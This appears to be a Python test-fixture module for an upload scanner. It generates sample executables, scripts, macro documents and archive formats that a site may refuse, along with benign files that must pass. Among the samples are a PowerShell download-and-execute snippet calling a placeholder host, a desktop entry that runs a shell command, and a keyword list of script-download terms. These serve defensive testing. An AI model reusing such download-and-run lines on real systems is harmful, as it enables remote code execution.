# SPDX-License-Identifier: GPL-3.0-or-later
"""Files for the scanner, made on the spot: what a site may refuse, and what it must let through."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

from packed import zipped

MADE_UP = "sallyport-made-up-" + "marker"
"""The made-up virus of the demo's own signatures."""
SECTOR = 512


def zipped_by(method: int, claimed: int | None = None) -> bytes:
    """Return a zip archive of one file, packed by a method.

    Args:
        method: stored, deflated, bzip2 or LZMA.
        claimed: another one, which its headers name instead.
    """
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        archive.writestr("plan.txt", b"a plan" * 9)
    found = bytearray(made.getvalue())
    if claimed is not None:
        for mark, where in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
            struct.pack_into("<H", found, found.index(mark) + where, claimed)
    return bytes(found)


def without_size() -> bytes:
    """Return a zip archive that says only at its end how long its file is, without the mark that it does."""
    found = bytearray(zipped_by(zipfile.ZIP_DEFLATED))
    struct.pack_into("<I", found, 18, 0)
    return bytes(found)


def streamed() -> bytes:
    """Return a zip archive as programs make them that cannot go back: sizes follow what they belong to."""

    class Pipe(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def seek(self, *_where: int) -> int:
            raise io.UnsupportedOperation

        def tell(self) -> int:
            raise io.UnsupportedOperation

    made = Pipe()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("plan.txt", b"a plan" * 9)
    return made.getvalue()


def tarred(how: str, content: bytes = b"a plan" * 99) -> bytes:
    """Return a tar archive of one file; how it is packed as tarfile says, as `w:xz`."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode=how) as archive:  # type: ignore[call-overload]
        about = tarfile.TarInfo("plan.dat")
        about.size = len(content)
        archive.addfile(about, io.BytesIO(content))
    return made.getvalue()


def xz(*filters: int) -> bytes:
    """Return an xz file that goes through filters before LZMA2."""
    chain = [{"id": one} for one in filters] + [{"id": lzma.FILTER_LZMA2, "dict_size": 65536}]
    return lzma.compress(b"a plan" * 9, filters=chain)


def xz_filtered_by(number: int) -> bytes:
    """Return an xz file whose one filter has a number that Python's own library may not know."""
    made = bytearray(xz(lzma.FILTER_ARM))
    size = (made[12] + 1) * 4
    made[14] = number
    struct.pack_into("<I", made, 12 + size - 4, zlib.crc32(made[12 : 12 + size - 4]))
    return bytes(made)


def old_lzma(size: int = 2**64 - 1) -> bytes:
    """Return a file packed by lzma, as it was before xz; by default it does not say its size."""
    made = lzma.compress(b"a plan" * 9, lzma.FORMAT_ALONE)
    return made[:5] + struct.pack("<Q", size) + made[13:]


def locked() -> bytes:
    """Return a zip archive whose one file is said to be encrypted."""
    made = bytearray(zipped(("plan.txt", b"a plan" * 9)))
    for mark, where in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        made[made.index(mark) + where] |= 1
    return bytes(made)


def windows_program() -> bytes:
    """Return the beginning of a program of Windows: its header, and one section without content."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
    head = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 1, 0, 0, 0, 224, 0x102)
    optional = struct.pack("<HBBIIIIII", 0x10B, 9, 0, 512, 0, 0, 4096, 4096, 8192) + struct.pack(
        "<IIIHHHHHHIIIIHHIIIIII",
        0x400000,
        4096,
        512,
        4,
        0,
        0,
        0,
        4,
        0,
        0,
        8192,
        512,
        0,
        3,
        0,
        4096,
        4096,
        4096,
        4096,
        0,
        16,
    )
    section = struct.pack("<8sIIIIIIHHI", b".text", 512, 4096, 512, 512, 0, 0, 0, 0, 0x60000020)
    return (dos + head + optional + bytes(224 - len(optional)) + section).ljust(512, b"\0") + b"\xc3" * 512


def ole(**streams: bytes) -> bytes:
    """Return a compound file, as old documents of Office are; in names, two underscores at the front stay."""
    contents = [content.ljust(4096, b"\0") for content in streams.values()]
    entries = [_entry("Root Entry", 5, child=1, begin=0xFFFFFFFE, size=0)]
    table, begin = [0xFFFFFFFD, 0xFFFFFFFE], 2
    for number, (name, content) in enumerate(zip(streams, contents, strict=True)):
        sectors = len(content) // SECTOR
        table += [*range(begin + 1, begin + sectors), 0xFFFFFFFE]
        last = number == len(contents) - 1
        entries.append(_entry(name, 2, begin=begin, size=len(content), right=0xFFFFFFFF if last else number + 2))
        begin += sectors
    entries += [bytes(128)] * (4 - len(entries))
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"",
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"",
        0,
        1,
        1,
        0,
        4096,
        0xFFFFFFFE,
        0,
        0xFFFFFFFE,
        0,
    )
    header += struct.pack("<I", 0) + b"\xff" * 4 * 108
    fat = struct.pack(f"<{len(table)}I", *table).ljust(SECTOR, b"\xff")
    return header + fat + b"".join(entries[:4]) + b"".join(contents)


def _entry(name: str, kind: int, *, child: int = 0xFFFFFFFF, begin: int, size: int, right: int = 0xFFFFFFFF) -> bytes:
    written = name.encode("utf-16-le")
    return struct.pack(
        "<64sHBBIII16sIQQIQ", written, len(written) + 2, kind, 1, 0xFFFFFFFF, right, child, b"", 0, 0, 0, begin, size
    )


def word(text: str, **more: bytes) -> bytes:
    """Return a document of Word with a text, and further parts."""
    paragraph = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    body = f'<?xml version="1.0"?><w:document xmlns:w="w"><w:body>{paragraph}</w:body></w:document>'
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", body)
        for name, content in more.items():
            archive.writestr(f"word/{name}.bin", content)
    return made.getvalue()


def opendocument() -> bytes:
    """Return a text of LibreOffice."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr("Configurations2/", b"", zipfile.ZIP_STORED)
        archive.writestr("content.xml", b'<?xml version="1.0"?><office:document-content xmlns:office="o"/>')
    return made.getvalue()


def picture() -> bytes:
    """Return a picture of one pixel (PNG)."""
    parts = (
        (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)),
        (b"IDAT", zlib.compress(b"\0\xff\0\0")),
        (b"IEND", b""),
    )
    chunks = (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def pdf() -> bytes:
    """Return a page that says something (PDF)."""
    text = b"BT /F1 12 Tf 72 720 Td (Minutes of the meeting) Tj ET"
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj\n"
        b"4 0 obj<</Length " + str(len(text)).encode() + b">>stream\n" + text + b"\nendstream endobj\n"
        b"trailer<</Root 1 0 R/Size 5>>\n%%EOF\n"
    )


def _wide(text: str) -> bytes:
    return b"\xff\xfe" + text.encode("utf-16-le")


HOW_TO = (
    "How to stop a service on Windows: open PowerShell, say Stop-Service, and look at it with Get-Service. Old scripts "
    "use CreateObject for this. A batch file begins with @echo off. MZ is how programs begin.\n"
)
SOURCE = {
    "main.py": b'"""A program."""\n\nimport os\n\n\ndef main():\n    print(os.name)\n',
    "main.c": b"#include <stdio.h>\nint main(void) { return 0; }\n",
    "page.js": b"export function add(a, b) { return a + b; }\n",
    "index.html": b"<!DOCTYPE html><html><head><script>let a = 1;</script></head><body>x</body></html>\n",
}

REFUSED: dict[str, tuple[str, bytes]] = {
    "program of Windows": ("executable", windows_program()),
    "program of Linux": ("executable", b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 2, 62) + bytes(80)),
    "program of macOS": ("executable", bytes.fromhex("cffaedfe0c000001000000000200000000000000") + bytes(60)),
    "class of Java": ("executable", bytes.fromhex("cafebabe0000003d") + bytes(60)),
    "JAR": ("executable", zipped(("Main.class", bytes.fromhex("cafebabe0000003d") + bytes(60)))),
    "code of Android": ("executable", b"dex\n035\0" + bytes(104)),
    "shortcut": ("executable", bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)),
    "starter of Windows": ("executable", b"[InternetShortcut]\r\nURL=file://10.0.0.1/x\r\n"),
    "starter of Linux": ("executable", b"#\n[Desktop Entry]\nType=Application\nExec=sh -c id\n"),
    "package of Debian": ("executable", b"!<arch>\ndebian-binary   1700000000  0     0     100644  4         `\n2.0\n"),
    "compiled Python": ("executable", bytes.fromhex("f30d0d0a00000000") + bytes(40)),
    "shell script": ("script", b"#!/bin/sh\nid\n"),
    "Python script": ("script", b"#!/usr/bin/env python3\nprint(1)\n"),
    "batch file": ("script", b"@ECHO OFF\r\nstart calc\r\n"),
    "PowerShell": ("script", b"param([string]$Name)\nGet-Item $Name\n"),
    "PowerShell in UTF-16": ("script", _wide("#Requires -Version 5\r\nGet-Item x\r\n")),
    "PowerShell that downloads": (
        "script",
        b"$w = New-Object Net.WebClient\n$c = $w.DownloadString('http://x.example')\nInvoke-Expression $c\n",
    ),
    "VBScript": ("script", b'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n'),
    "JScript": ("script", b"var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n"),
    "encoded JScript": ("script", b"#@~^DgAAAA==\\ko$K6,JtbJ@!rQMAAA==^#~@"),
    "HTA": ("script", b"<html><head><HTA:APPLICATION id=x></head><body></body></html>"),
    "WSF": ("script", b"<?xml version='1.0'?><job><script language='JScript'>1</script></job>"),
    "registry": ("script", _wide("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n")),
    "old document with macros": ("macro", ole(WordDocument=b"x" * 4096, _VBA_PROJECT=b"\xcc\x61" + bytes(4094))),
    "document with macros": ("macro", word("Invoice", vbaProject=ole(_VBA_PROJECT=b"\xcc\x61" + bytes(4094)))),
    "locked archive": ("encrypted", locked()),
    "7z": ("unreadable", bytes.fromhex("377abcaf271c0004") + struct.pack("<IQQI", zlib.crc32(bytes(20)), 0, 0, 0)),
    "RAR": ("unreadable", bytes.fromhex("526172211a07010033927ae5040100051100")),
    "old RAR": ("unreadable", bytes.fromhex("526172211a0700cf907300000d00000000000000")),
    "zip by LZMA": ("unreadable", zipped_by(zipfile.ZIP_LZMA)),
    "zip by PPMd": ("unreadable", zipped_by(zipfile.ZIP_DEFLATED, 98)),
    "zip by zstd": ("unreadable", zipped_by(zipfile.ZIP_DEFLATED, 93)),
    "zip by xz": ("unreadable", zipped_by(zipfile.ZIP_DEFLATED, 95)),
    "zip that hides a size": ("unreadable", without_size()),
    "bzip2 of two streams": ("unreadable", bz2.compress(b"Minutes") + bz2.compress(b"a plan")),
    "bzip2 after an empty stream": ("unreadable", bz2.compress(b"") + bz2.compress(b"a plan")),
    "xz for ARM64": ("unreadable", xz_filtered_by(0x0A)),
    "xz for RISC-V": ("unreadable", xz_filtered_by(0x0B)),
    "xz for PowerPC": ("unreadable", xz(lzma.FILTER_POWERPC)),
    "xz by two filters": ("unreadable", xz(lzma.FILTER_DELTA, lzma.FILTER_ARM)),
    "second stream of xz for ARM64": ("unreadable", xz() + xz_filtered_by(0x0A)),
    "old LZMA": ("unreadable", old_lzma()),
    "old LZMA that says its size": ("unreadable", old_lzma(54)),
    "zstd": ("unreadable", bytes.fromhex("28b52ffd2007390000") + b"a plan\n"),
    "zstd after a note": ("unreadable", bytes.fromhex("502a4d180400000000000000" + "28b52ffd2007390000") + b"a plan\n"),
    "lz4": ("unreadable", bytes.fromhex("04224d186440a7") + bytes(8)),
    "lzip": ("unreadable", b"LZIP\x01\x0c" + bytes(40)),
    "lrzip": ("unreadable", b"LRZI\x00\x06" + bytes(40)),
    "rzip": ("unreadable", b"RZIP\x02\x01" + bytes(40)),
    "lzop": ("unreadable", bytes.fromhex("894c5a4f000d0a1a0a1040") + bytes(40)),
    "compress": ("unreadable", bytes.fromhex("1f9d9061404041870b26")),
    "ACE": ("unreadable", bytes(7) + b"**ACE**" + bytes(40)),
    "squashfs": ("unreadable", struct.pack("<4sIIIIHHHHHH", b"hsqs", 1, 0, 131072, 0, 1, 17, 0, 1, 4, 0) + bytes(64)),
    "image of Windows": ("unreadable", b"MSWIM\0\0\0" + bytes(200)),
    "disk of a virtual machine": ("unreadable", b"vhdxfile" + bytes(600)),
}
"""What a site may refuse: the kind, and a file of it."""

PERMITTED: dict[str, bytes] = {
    "text": b"Minutes of the meeting\n",
    "text about scripts": HOW_TO.encode(),
    "text that begins with MZ": b"MZ 4711 is the number of the order.\n",
    "text in UTF-16": _wide("Minutes of the meeting\r\n"),
    "Markdown": b"# Heading\n\n#! is how scripts begin.\n",
    "table": b"name;sum\nEk;12\n",
    "picture": picture(),
    "PDF": pdf(),
    "document": word("Minutes of the meeting"),
    "document about scripts": word(
        HOW_TO + "CreateObject WScript.Shell Invoke-Expression DownloadString( Net.WebClient"
    ),
    "old document": ole(WordDocument=b"x" * 4096),
    "page": SOURCE["index.html"],
    "source code in an archive": zipped(*SOURCE.items()),
    "zip of stored files": zipped_by(zipfile.ZIP_STORED),
    "zip by bzip2": zipped_by(zipfile.ZIP_BZIP2),
    "zip that was streamed": streamed(),
    "tar": tarred("w"),
    "tar.gz": tarred("w:gz"),
    "tar.bz2": tarred("w:bz2"),
    "tar.xz": tarred("w:xz"),
    "bzip2 files in something else": tarred("w", b"Minutes\n" + bz2.compress(b"Minutes") + bz2.compress(b"a plan")),
    "gzip": gzip.compress(b"Minutes\n"),
    "xz for PCs": xz(lzma.FILTER_X86),
    "xz by delta": xz(lzma.FILTER_DELTA),
    "empty xz": lzma.compress(b""),
    "xz of two streams": xz() + xz(),
    "cursor": bytes.fromhex("000002000100202000000000000030010000") + bytes(300),
    "bitmap of Truevision": bytes.fromhex("000002000000000000000000400140011800") + bytes(300),
    "numbers": struct.pack(">8I", 3, 1, 0, 0, 0, 7, 0, 0),
    "text that begins like lzip": b"LZIP is a way to pack files.\n",
    "text of LibreOffice": opendocument(),
    "archive in an archive": zipped(("inner.zip", zipped(("minutes.txt", b"Minutes\n")))),
}
"""Files like these people share, and they must pass."""
